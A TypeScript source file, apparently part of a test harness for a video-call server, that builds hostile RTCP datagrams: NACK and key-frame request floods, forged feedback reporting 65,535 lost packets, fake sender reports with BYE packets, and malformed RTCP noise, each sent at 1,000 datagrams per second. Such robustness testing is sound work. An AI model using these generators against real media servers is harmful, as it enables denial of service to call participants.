/** Attacks by RTCP: RFC 3550 §6, RFC 4585, draft-holmer-rmcat-transport-wide-cc-extensions-01. */
import { concatBytes } from '@callcast/core';
import type { Attack, AttackTarget, HostileDatagram } from './attack.ts';

const TRANSPORT_FEEDBACK = 205;
const PAYLOAD_FEEDBACK = 206;
const SENDER_REPORT = 200;
const BYE = 203;
/** Below the MTU with everything around it. */
const MAX_COMPOUND_BYTES = 1_180;
/** Servers stop reading after some: ours after 64. */
const MAX_COMPOUND_PACKETS = 60;

/** @param body Whole 32-bit words. */
function rtcpPacket(packetType: number, count: number, body: Uint8Array): Uint8Array {
  const words = body.length / 4;
  return concatBytes([Uint8Array.of(0x80 | count, packetType, words >> 8, words & 0xff), body]);
}

const uint32 = (value: number): Uint8Array => Uint8Array.of(value >>> 24, value >>> 16, value >>> 8, value);

function feedback(packetType: number, format: number, target: AttackTarget, information: Uint8Array): Uint8Array {
  const ssrcs = concatBytes([uint32(target.ssrc.video), uint32(target.serverSsrc() ?? 0)]);
  return rtcpPacket(packetType, format, concatBytes([ssrcs, information]));
}

/** As often as it fits into one datagram. */
function repeated(packet: Uint8Array): HostileDatagram {
  const count = Math.min(MAX_COMPOUND_PACKETS, Math.floor(MAX_COMPOUND_BYTES / packet.length));
  return { kind: 'video', datagram: concatBytes(new Array<Uint8Array>(count).fill(packet)) };
}

export const rtcpAttacks: readonly Attack[] = [
  {
    name: 'NACK of everything',
    datagramsPerSecond: 1_000,
    *datagrams(target) {
      const everything = new Uint8Array(4 * 280);
      for (let i = 0; i < 280; i++) everything.set([(i * 17) >> 8, (i * 17) & 0xff, 0xff, 0xff], 4 * i);
      for (;;) yield repeated(feedback(TRANSPORT_FEEDBACK, 1, target, everything));
    },
  },
  {
    name: 'requests for key frames',
    datagramsPerSecond: 1_000,
    *datagrams(target) {
      for (;;) yield repeated(feedback(PAYLOAD_FEEDBACK, 1, target, new Uint8Array(0)));
    },
  },
  {
    name: 'feedback of a few bytes on 65,535 packets',
    datagramsPerSecond: 1_000,
    *datagrams(target) {
      // Nine runs of 8,191 packets that were not received, in 18 bytes; base 0, count 65,535.
      const runs = [...new Array<number>(9).fill(0x1fff)].flatMap((run) => [run >> 8, run & 0xff]);
      const information = Uint8Array.from([0, 0, 0xff, 0xff, 0, 0, 0, 0, ...runs, 0, 0]);
      for (;;) yield repeated(feedback(TRANSPORT_FEEDBACK, 15, target, information));
    },
  },
  {
    name: 'reports with times from nowhere, and farewells',
    datagramsPerSecond: 1_000,
    *datagrams({ ssrc, random }) {
      for (;;)
        for (const media of [ssrc.audio, ssrc.video]) {
          const report = rtcpPacket(SENDER_REPORT, 0, concatBytes([uint32(media), random.bytes(20)]));
          yield repeated(concatBytes([report, rtcpPacket(BYE, 1, uint32(media))]));
        }
    },
  },
  {
    name: 'RTCP that is noise behind its first words',
    datagramsPerSecond: 1_000,
    *datagrams({ ssrc, random }) {
      for (;;) {
        const type = SENDER_REPORT + (random.uint32() % 8);
        const noise = concatBytes([uint32(ssrc.video), random.bytes(1_000)]);
        yield { kind: 'video', datagram: rtcpPacket(type, random.uint32() & 31, noise) };
      }
    },
  },
];
